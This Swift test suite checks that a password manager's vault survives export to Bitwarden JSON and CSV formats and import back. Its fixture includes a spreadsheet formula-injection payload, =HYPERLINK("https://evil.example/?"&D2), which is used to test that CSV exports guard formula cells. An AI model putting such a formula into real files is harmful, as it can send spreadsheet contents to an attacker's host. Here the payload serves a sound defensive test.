import Foundation
import Synchronization
import Platform
import PwtuiTestSupport
import ServiceMatching
import Testing
import VaultCrypto
@testable import Interchange
import VaultModel

/// An export imported into a new vault gives the same credentials: every field each format
/// carries, compared one by one.
@Suite("Export, then import: the same credentials")
struct RoundTripTests {
    let directory = TemporaryDirectory("roundtrip")
    static let totpKey: [UInt8] = Array("12345678901234567890".utf8)

    /// A vault with what is hard to carry: quotes, commas and newlines in every text field and
    /// in a password, unicode, several services, a one-time key with unusual parameters, an
    /// empty username and title, a password history.
    func sourceVault() throws -> Vault {
        let now = Mutex<Int64>(1_700_000_000_123)
        let clock = Clock { Timestamp(millisecondsSince1970: now.withLock { $0 }) }
        let vault = try Vault.create(
            at: try directory.freshPath("source.pwtui"), password: try secure("x"),
            parameters: .interactive, environment: VaultEnvironment(clock: clock, derivation: MemoizingDerivation()))
        let github = try vault.add(
            services: [
                try ServiceIdentifier("https://github.com/login"), try ServiceIdentifier("gist.github.com"),
                try ServiceIdentifier("android://aGFzaA==@com.github.android/"),
            ],
            username: "alice", secret: try secure("first, \"quoted\"\npassword"), title: "GitHub — \"work\", main",
            notes: "line 1\nline 2, with \"quotes\"\n日本語 🔑")
        try vault.setOneTimeKey(
            of: github.id, to: OneTimeParameters(algorithm: .sha512, digits: 8, period: 45),
            key: try secure(Self.totpKey))
        try vault.setField(of: github.id, name: "recovery email", text: "alice@example.org", secret: try secure(""))
        try vault.setField(of: github.id, name: "PIN", text: nil, secret: try secure("9,\"old\"\u{00e9}"))
        now.withLock { $0 += 60_000 }
        try vault.setField(of: github.id, name: "PIN", text: nil, secret: try secure("12,\"34"))
        now.withLock { $0 += 60_000 }
        try vault.replaceSecret(of: github.id, with: try secure("second"))
        now.withLock { $0 += 60_000 }
        try vault.replaceSecret(of: github.id, with: try secure("third ✓"))
        try vault.add(
            services: [try ServiceIdentifier("192.168.1.1:8080")], username: "", secret: try secure(""), title: "")
        // A service of another scheme (issue 38): exported and read back as written.
        try vault.add(
            services: [try ServiceIdentifier("SFTP://files.example:2222/home")], username: "kim",
            secret: try secure("sftp-pw"), title: "Files")
        // Cells a spreadsheet would run as formulas: guarded in the CSV exports, read back as they were.
        try vault.add(
            services: [try ServiceIdentifier("*.example.co.uk")], username: "@ünïcode", secret: try secure("=1+2"),
            title: "=HYPERLINK(\"https://evil.example/?\"&D2)", notes: "-2+3\n=4")
        return vault
    }

    func roundTrip(_ format: ExportFormat, _ source: Vault) throws -> (ImportPlan, ExportWriter) {
        var writer = ExportWriter(format: format)
        let bytes = try writer.write(source)
        let path = try directory.freshPath("export.\(format.rawValue)")
        try bytes.withUnsafeBytes { try Data($0).write(to: URL(fileURLWithPath: path)) }
        let batch = try ImportReader.read(path)
        let plan = try ImportSamples.plan(batch)
        #expect(plan.invalidCount == 0)
        #expect(plan.warnings.isEmpty, "\(plan.warnings)")
        // And into a real vault, saved and opened again.
        let target = try Vault.create(
            at: try directory.freshPath("target.pwtui"), password: try secure("y"),
            parameters: .interactive, environment: VaultEnvironment(derivation: MemoizingDerivation()))
        try plan.apply(to: target)
        try target.save()
        #expect(target.contents.credentials.count == source.contents.credentials.count)
        return (plan, writer)
    }

    func secret(_ vault: Vault, _ reference: SecretReference) -> [UInt8] {
        vault.withSecret(reference) { Array($0) }
    }

    func secret(_ plan: ImportPlan, _ reference: SecretReference) -> [UInt8] {
        plan.batch.secrets.withBytes(of: reference) { Array($0) }
    }

    func compare(
        _ original: Credential, in source: Vault, with copy: Credential, in plan: ImportPlan,
        title: Bool = true, history: Bool, fieldHistory: Bool = true
    ) {
        if title { #expect(copy.title == original.title) } else { #expect(copy.displayTitle == original.displayTitle) }
        #expect(copy.services == original.services)
        #expect(copy.username == original.username)
        #expect(copy.notes == original.notes)
        #expect(secret(plan, copy.secret) == secret(source, original.secret))
        #expect(copy.created == original.created)
        #expect(copy.modified == original.modified)
        #expect(copy.totp?.parameters == original.totp?.parameters)
        #expect(copy.totp.map { secret(plan, $0.key) } == original.totp.map { secret(source, $0.key) })
        #expect(copy.fields.map(\.name) == original.fields.map(\.name))
        #expect(copy.fields.map(\.isSecret) == original.fields.map(\.isSecret))
        #expect(copy.fields.map(\.text) == original.fields.map(\.text))
        #expect(
            copy.fields.map { $0.secret.map { secret(plan, $0) } }
                == original.fields.map { $0.secret.map { secret(source, $0) } })
        // A secret field's earlier values: carried by pwtui's CSV and Bitwarden JSON (fieldHistory).
        if fieldHistory {
            #expect(
                copy.fields.map { $0.history.map(\.replaced) } == original.fields.map { $0.history.map(\.replaced) })
            #expect(
                copy.fields.map { $0.history.map { secret(plan, $0.secret) } }
                    == original.fields.map { $0.history.map { secret(source, $0.secret) } })
        }
        if history {
            #expect(copy.history.map(\.replaced) == original.history.map(\.replaced))
            #expect(copy.history.map { secret(plan, $0.secret) } == original.history.map { secret(source, $0.secret) })
        }
    }

    func matching(_ original: Credential, in plan: ImportPlan) throws -> Credential {
        try #require(
            plan.additions.map(\.credential).first {
                $0.username == original.username && $0.services.first?.host == original.services.first?.host
            })
    }

    @Test(
        "a service of another scheme leaves in every format as it came and comes back as written (issue 38)",
        arguments: [ExportFormat.bitwardenJSON, .csv, .keepassxcCSV])
    func otherSchemeAsWritten(_ format: ExportFormat) throws {
        let (plan, _) = try roundTrip(format, try sourceVault())
        let files = try #require(plan.additions.map(\.credential).first { $0.username == "kim" })
        #expect(files.services.map(\.text) == ["SFTP://files.example:2222/home"], "\(files.services)")
    }

    @Test("Bitwarden JSON: every field, history included (a secret field's as `NAME: value` entries)")
    func bitwardenJSON() throws {
        let source = try sourceVault()
        let (plan, _) = try roundTrip(.bitwardenJSON, source)
        for original in source.contents.credentials {
            // Bitwarden needs a name: an empty title goes out as the shown one.
            compare(
                original, in: source, with: try matching(original, in: plan), in: plan, title: !original.title.isEmpty,
                history: true)
        }
    }

    @Test("pwtui CSV: every field but the password history; a secret field's earlier values in `secret field history`")
    func csv() throws {
        let source = try sourceVault()
        let (plan, _) = try roundTrip(.csv, source)
        for original in source.contents.credentials {
            compare(original, in: source, with: try matching(original, in: plan), in: plan, history: false)
        }
    }

    @Test(
        "notes, cards and identities keep their kind and fields through Bitwarden JSON and pwtui's CSV",
        arguments: [ExportFormat.bitwardenJSON, .csv])
    func items(_ format: ExportFormat) throws {
        let vault = try Vault.create(
            at: try directory.freshPath("items.pwtui"), password: try secure("x"), parameters: .interactive,
            environment: VaultEnvironment(derivation: MemoizingDerivation()))
        let card = try vault.add(services: [], username: "", secret: try secure(""), title: "Visa", notes: "lost? call")
        try vault.update(card.id) { $0.kind = .card }
        for (name, value) in [("number", "4111111111111111"), ("security code", "123"), ("PIN", "9876")] {
            try vault.setField(of: card.id, name: name, text: nil, secret: try secure(value))
        }
        for (name, value) in [("cardholder", "Alice"), ("brand", "Visa"), ("expiry", "7/2029")] {
            try vault.setField(of: card.id, name: name, text: value, secret: try secure(""))
        }
        let note = try vault.add(services: [], username: "", secret: try secure(""), title: "Safe")
        try vault.update(note.id) { $0.kind = .note }
        try vault.setField(of: note.id, name: "note", text: nil, secret: try secure("left 12, right 34"))
        let me = try vault.add(services: [], username: "", secret: try secure(""), title: "Me")
        try vault.update(me.id) { $0.kind = .identity }
        try vault.setField(of: me.id, name: "first name", text: "Alice", secret: try secure(""))
        try vault.setField(of: me.id, name: "passport number", text: nil, secret: try secure("P123"))
        let (plan, _) = try roundTrip(format, vault)
        for original in vault.contents.credentials {
            let copy = try #require(plan.added(original.title))
            #expect(copy.kind == original.kind)
            #expect(copy.notes == original.notes)
            func described(_ fields: [NamedField], _ value: (SecretReference) -> [UInt8]) -> [String: String] {
                Dictionary(
                    uniqueKeysWithValues: fields.map { field in
                        (
                            field.name,
                            field.text ?? "secret " + String(decoding: field.secret.map(value) ?? [], as: UTF8.self)
                        )
                    })
            }
            #expect(described(copy.fields) { secret(plan, $0) } == described(original.fields) { secret(vault, $0) })
        }
    }

    @Test(
        "a keyring item keeps its kind, label, attributes, creator, content type and exact bytes through pwtui's CSV: a secret that is not UTF-8 as hex"
    )
    func keyringItems() throws {
        let vault = try Vault.create(
            at: try directory.freshPath("keyring.pwtui"), password: try secure("x"), parameters: .interactive,
            environment: VaultEnvironment(derivation: MemoizingDerivation()))
        let stored: [(label: String, attributes: [String: String], secret: [UInt8])] = [
            ("Chromium Safe Storage", ["application": "chromium"], Array("cookie-key".utf8)),
            (
                "Password for 'me' on 'pypi'\t(keyring)", ["service": "pypi", "username": "me"],
                [0xFF, 0x00, 0xC3, 0x28]
            ),
        ]
        for item in stored {
            let secret = try SecureBytes(copying: item.secret)
            _ = try KeyringRequest.create(
                label: item.label, attributes: item.attributes, contentType: "application/octet-stream", replace: false,
                creator: KeyringCaller(pid: nil)
            ).apply(to: vault, secret: secret, creator: "chromium")
        }
        try vault.save()
        let (plan, _) = try roundTrip(.csv, vault)
        let target = try Vault.create(
            at: try directory.freshPath("keyring-target.pwtui"), password: try secure("y"), parameters: .interactive,
            environment: VaultEnvironment(derivation: MemoizingDerivation()))
        try plan.apply(to: target)
        for item in stored {
            let copy = try #require(
                target.contents.credentials.first { KeyringItem.label(of: $0) == item.label }, "\(item.label)")
            #expect(copy.kind == .keyring)
            #expect(KeyringItem.attributes(of: copy) == item.attributes)
            #expect(KeyringItem.creator(of: copy) == "chromium")
            #expect(KeyringItem.contentType(of: copy) == "application/octet-stream")
            let secret = try KeyringItem.secret(of: copy, in: target.contents)
            #expect(secret.withUnsafeBytes { Array($0) } == item.secret)
        }
        #expect(
            KeyringRequest.items(in: target.contents, matching: ["service": "pypi"]).map(KeyringItem.label)
                == [stored[1].label], "found by its attributes once imported")
    }

    @Test("KeePassXC CSV: every field of one-service credentials; other services in the notes")
    func keepassxcCSV() throws {
        let source = try sourceVault()
        let (plan, writer) = try roundTrip(.keepassxcCSV, source)
        #expect(writer.notesServices == 1)
        #expect(writer.notesFields == 1)
        for original in source.contents.credentials {
            let copy = try matching(original, in: plan)
            if original.services.count == 1 {
                compare(original, in: source, with: copy, in: plan, history: false, fieldHistory: false)
            } else {
                #expect(copy.services == [original.services[0]])
                // No column for fields or a second service: the notes carry them.
                #expect(
                    copy.notes == original.notes
                        + "\n\nrecovery email: alice@example.org\n\nURL: gist.github.com\nURL: android://aGFzaA==@com.github.android/\n\nPIN: 12,\"34"
                )
                #expect(copy.fields.isEmpty)
                #expect(secret(plan, copy.secret) == secret(source, original.secret))
            }
        }
    }

    @Test(
        "CSV exports guard text cells beginning with = + - @ TAB or CR; passwords are written as they are",
        arguments: [ExportFormat.csv, .keepassxcCSV])
    func formulaGuard(_ format: ExportFormat) throws {
        let source = try sourceVault()
        var writer = ExportWriter(format: format)
        let text = try writer.write(source).withUnsafeBytes { String(decoding: $0, as: UTF8.self) }
        #expect(text.contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&D2)\""))
        #expect(text.contains("\"'-2+3\n=4\""))
        #expect(text.contains("\"'@ünïcode\""))
        #expect(text.contains("\"=1+2\""), "the password cell is the password")
        #expect(!text.contains("\"=HYPERLINK"))
    }

    @Test("pwtui CSV carries when each credential was last used, so that it ranks as before once imported")
    func lastUsed() throws {
        let source = try sourceVault()
        let used = Timestamp(millisecondsSince1970: 1_750_000_000_000)
        let first = try #require(source.contents.credentials.first)
        var writer = ExportWriter(format: .csv)
        writer.lastUsed = { $0 == first.id ? used : nil }
        let bytes = try writer.write(source)
        let plan = try bytes.withUnsafeBytes { try ImportSamples.plan(try ImportReader.read(bytes: $0)) }
        let copied = try #require(
            plan.additions.first { $0.credential.username == first.username && $0.credential.title == first.title })
        #expect(copied.lastUsed == used)
        #expect(plan.additions.filter { $0.lastUsed != nil }.count == 1)
    }

    @Test("an export's CRLF in notes comes in as LF")
    func crlfNotes() throws {
        let vault = try Vault.create(
            at: try directory.freshPath("crlf.pwtui"), password: try secure("x"), parameters: .interactive,
            environment: VaultEnvironment(derivation: MemoizingDerivation()))
        try vault.add(
            services: [try ServiceIdentifier("example.org")], username: "u", secret: try secure("p"), notes: "a\r\nb\rc"
        )
        let (plan, _) = try roundTrip(.bitwardenJSON, vault)
        #expect(plan.additions.first?.credential.notes == "a\nb\nc")
    }

    @Test("importing the same export twice changes nothing the second time")
    func idempotent() throws {
        let source = try sourceVault()
        var writer = ExportWriter(format: .bitwardenJSON)
        let bytes = try writer.write(source)
        let path = try directory.freshPath("again.json")
        try bytes.withUnsafeBytes { try Data($0).write(to: URL(fileURLWithPath: path)) }
        let again = ImportPlan(
            try ImportReader.read(path), existing: source.contents.credentials,
            existingSecrets: source.contents.secrets,
            policy: .update, now: Timestamp(millisecondsSince1970: 0), suffixes: ImportSamples.suffixes)
        #expect(again.addedCount == 0)
        #expect(again.updatedCount == 0)
        #expect(again.steps.allSatisfy { if case .duplicate = $0.action { return true } else { return false } })
    }
}
